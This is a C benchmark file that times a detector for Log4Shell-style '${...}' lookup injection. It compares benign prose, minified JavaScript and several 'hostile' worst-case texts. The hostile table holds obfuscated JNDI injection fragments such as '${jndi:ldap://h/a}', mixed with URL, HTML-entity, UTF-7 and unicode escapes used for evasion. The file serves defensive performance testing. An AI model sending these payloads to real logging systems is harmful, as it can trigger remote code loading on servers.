/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What a text costs from the trigger to the last reading that is tried: bench_resolve [once [WORD]]
 *
 * One line per text: its name, its bytes, nanoseconds of CPU time per byte (best of five). With "once" each
 * text is judged a single time, for bench/resolve.sh, which counts instructions: these are the same on any
 * machine. The texts that end in "hostile" are the worst that a search over repeated pieces has found, 64 KB
 * each. */
#include "detect/resolve.h"

#include <stdio.h>
#include <time.h>

#define TEXT_LEN 65536

/* The same texts every time. */
static uint32_t below(uint32_t n)
{
    static uint64_t state = 1;

    state = state * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)((state >> 33) % n);
}

struct bench {
    struct scan *scan;
    struct resolver *resolver;
    bool once;
    const char *only;
};

/* A text of up to three parts, each a piece repeated until it has its share of the length, in percent. */
struct part {
    const char *piece;
    unsigned percent;
};

static const struct {
    const char *name;
    enum field_coding coding;
    struct part parts[3];
} hostile[] = {
    /* clang-format off */
    {"deep nests, hostile", FIELD_PLAIN, {{"${lower:", 50}, {"}", 50}}},
    {"unclosed, with escapes, hostile", FIELD_COOKIE, {{"$$", 29}, {"${${upper:", 2}}},
    {"A, hostile", FIELD_PLAIN, {{"\"${", 81}, {"&#123;upper:%7bj${jndi:ldap://h/a}", 3}, {"6a%2524%257benv:\\u0024+ACQAew-=7B&#36;", 2}}},
    {"B, hostile", FIELD_XML, {{"24env:?&&dollar;\\u0024", 6}, {"${", 65}, {"?date:${jndi:ldap://h/a}%2524%257bldap://h/a=7B", 28}}},
    {"C, hostile", FIELD_XML, {{"\"%7b%7b=24+ACQAew-jndi:\\", 1}, {"247b6a6e", 11}, {"$$${", 20}}},
    /* clang-format on */
};

static void on_resolved(void *arg, const struct resolved *r)
{
    (void)arg;
    (void)r;
}

/* What detect does with a whole text. bench/resolve.sh counts what happens in here. */
__attribute__((noinline)) void judge(struct bench *b, struct bytes text, enum field_coding coding);

void judge(struct bench *b, struct bytes text, enum field_coding coding)
{
    bool spent;

    if (scan_block(b->scan, text) & SCAN_HIT)
        resolver_run(b->resolver, text, coding, true, on_resolved, NULL, &spent);
}

static double cpu_ns(void)
{
    struct timespec t;

    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
    return (double)t.tv_sec * 1e9 + (double)t.tv_nsec;
}

static void measure(struct bench *b, const char *name, struct bytes text, enum field_coding coding)
{
    double best = 0;

    if (!strstr(name, b->only))
        return;
    for (int round = 0; round < (b->once ? 1 : 5); round++) {
        double start = cpu_ns(), took;

        judge(b, text, coding);
        took = cpu_ns() - start;
        if (round == 0 || took < best)
            best = took;
    }
    printf("%-34s %6zu bytes %8.1f ns per byte\n", name, text.len, best / (double)text.len);
}

static void add_prose(struct buf *text)
{
    static const char *const words[] = {"the ", "order ", "of ", "price: ", "<b>",  "</b> ",
                                        "$20 ", "item, ", "a ",  "{ok} ",   "100% "};

    while (buf_add_str(text, words[below(sizeof words / sizeof *words)]))
        if (below(16) == 0)
            buf_add_str(text, "\n");
}

/* A bundler's output: template literals by the hundred, no line shorter than a kilobyte. */
static void add_script(struct buf *text)
{
    static const char *const lines[] = {
        "function %c(e,t){return`${e}.${t}`}",    "n.%c=e=>`/api/${e.id}/items?page=${t.page}`,",
        "o=`<li class=\"${r.a}\">${i.%c}</li>`;", "if(%c>0){for(let e=0;e<t.length;e++)n+=t[e].x}",
        "var u=%c?{a:1,b:\"c\"}:{d:[2,3]};",      "t.%c=`${a?`b-${a}`:\"\"} c`;",
        "const %c=Object.assign({},e);",
    };

    while (text->len + 64 < text->ceiling)
        if (!buf_addf(text, lines[below(sizeof lines / sizeof *lines)], (char)('a' + below(26))) ||
            below(50) == 0)
            buf_add_str(text, "\n");
}

static void add_parts(struct buf *text, const struct part *parts)
{
    for (unsigned i = 0; i < 3 && parts[i].piece; i++) {
        size_t len = strlen(parts[i].piece), end = text->len + TEXT_LEN * parts[i].percent / 100;

        while (text->len + len <= end && buf_add_str(text, parts[i].piece))
            ;
    }
}

int main(int argc, char **argv)
{
    struct config *config = config_new();
    struct bench b = {.scan = scan_new(NULL),
                      .once = argc > 1 && strcmp(argv[1], "once") == 0,
                      .only = argc > 2 ? argv[2] : ""};
    struct buf text = buf_within(TEXT_LEN);

    b.resolver = config && b.scan ? resolver_new(config, b.scan) : NULL;
    if (!b.resolver)
        return 3;
    add_prose(&text);
    measure(&b, "text without \"${\"", buf_bytes(&text), FIELD_PLAIN);
    buf_clear(&text);
    add_script(&text);
    measure(&b, "minified JavaScript full of \"${\"", buf_bytes(&text), FIELD_PLAIN);
    for (size_t i = 0; i < sizeof hostile / sizeof *hostile; i++) {
        buf_clear(&text);
        add_parts(&text, hostile[i].parts);
        measure(&b, hostile[i].name, buf_bytes(&text), hostile[i].coding);
    }
    buf_drop(&text);
    resolver_free(b.resolver);
    scan_free(b.scan);
    config_free(config);
    return 0;
}
